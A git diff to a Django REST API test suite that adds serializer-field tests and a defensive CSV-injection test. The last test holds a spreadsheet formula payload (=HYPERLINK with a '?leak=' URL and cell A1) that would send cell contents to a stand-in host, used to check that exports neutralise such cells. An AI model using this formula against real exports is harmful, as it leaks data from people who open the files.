@@ -12,7 +12,13 @@ from django.utils import timezone
 from rest_framework.throttling import AnonRateThrottle
 
 from libya.desk.models import Actor, Deletion
-from tests.factories import ActorFactory, ClaimFactory, EventFactory, MediaFactory
+from tests.factories import (
+    ActorFactory,
+    ArticleFactory,
+    ClaimFactory,
+    EventFactory,
+    MediaFactory,
+)
 
 pytestmark = pytest.mark.django_db
 
@@ -313,7 +319,8 @@ def test_deletions_list_query_count_is_fixed(client, django_assert_num_queries, 
 
     # page of deletions with the capped count as a column
     with django_assert_num_queries(1):
-        client.get("/api/v1/deletions/", {"page_size": page_size})
+        response = client.get("/api/v1/deletions/", {"page_size": page_size})
+    assert response.status_code == HTTPStatus.OK
 
 
 @pytest.mark.parametrize("path", ["/api/v1/docs/", "/api/v1/redoc/"])
@@ -380,3 +387,48 @@ def test_compiled_claim_detail_still_hides_retracted_claims(client):
     assert client.get(f"/api/v1/claims/{claim.pk}/").status_code == HTTPStatus.NOT_FOUND
     shown = client.get(f"/api/v1/claims/{claim.pk}/", {"status": "retracted"})
     assert shown.status_code == HTTPStatus.OK
+
+
+# Each field is declared once
+
+
+def test_a_field_declared_on_the_serializer_alone_is_in_every_output(client, monkeypatch):
+    """Adding a field to the API is a one-file change: the serializer declaration."""
+    from rest_framework import serializers
+
+    from libya.desk.api import serializers as s
+    from libya.desk.api.views import ClaimViewSet
+
+    class WithGloss(s.ClaimSerializer):
+        english = serializers.CharField(source="gloss_en")
+        speaker_name = serializers.CharField(source="speaker.name", allow_null=True)
+
+    monkeypatch.setattr(ClaimViewSet, "serializer_class", WithGloss)
+    claim = ClaimFactory(gloss_en="He said yes.")
+
+    listed = client.get("/api/v1/claims/", {"speaker": claim.speaker.slug})
+    trimmed = client.get("/api/v1/claims/", {"speaker": claim.speaker.slug, "fields": "english"})
+    exported = client.get("/api/v1/claims/", {"speaker": claim.speaker.slug, "format": "csv"})
+
+    assert listed.status_code == trimmed.status_code == exported.status_code == HTTPStatus.OK
+    row = listed.json()["results"][0]
+    assert (row["english"], row["speaker_name"]) == ("He said yes.", claim.speaker.name)
+    assert trimmed.json()["results"] == [{"english": "He said yes."}]
+    assert read_csv(exported)[0]["english"] == "He said yes."
+
+
+# CSV injection (OWASP): a cell a spreadsheet would run as a formula is quoted
+
+
+@pytest.mark.parametrize("start", ["=HYPERLINK(", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_evaluate_are_prefixed(client, start):
+    text = f'{start}"http://example.org/?leak="&A1,"clique")'
+    claim = ClaimFactory(article=ArticleFactory(body=f"Il a écrit « {text} » hier."))
+    article = claim.article
+
+    exported = client.get("/api/v1/claims/", {"article": article.slug, "format": "csv"})
+    listed = client.get(f"/api/v1/claims/{claim.pk}/")
+
+    assert exported.status_code == listed.status_code == HTTPStatus.OK
+    assert read_csv(exported)[0]["text"] == f"'{text}"
+    assert listed.json()["text"] == text  # JSON stays as it is
